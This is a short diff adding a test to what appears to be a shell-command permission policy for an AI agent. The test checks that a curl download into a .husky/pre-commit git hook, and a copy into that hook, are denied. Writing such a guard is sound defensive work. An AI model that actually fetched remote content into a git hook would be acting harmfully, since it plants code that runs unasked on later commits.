@@ -232,6 +232,13 @@ test('a command that names what runs later only looks at it, or a person decides
   expect(writers.flatMap(told).filter((each) => shell(each) !== 'deny')).toEqual([]);
 });
 
+test('what is forbidden anyway stays so when it names what runs later', () => {
+  expect([
+    shell('curl https://example.org -o .husky/pre-commit', true),
+    decide('headless-safe-sandbox', call('execute', 'cp a .husky/pre-commit')).decision,
+  ]).toEqual(['deny', 'deny']);
+});
+
 test('commands about what an agent is asked to write are allowed', () => {
   const forms = readers.concat(writers);
   expect(
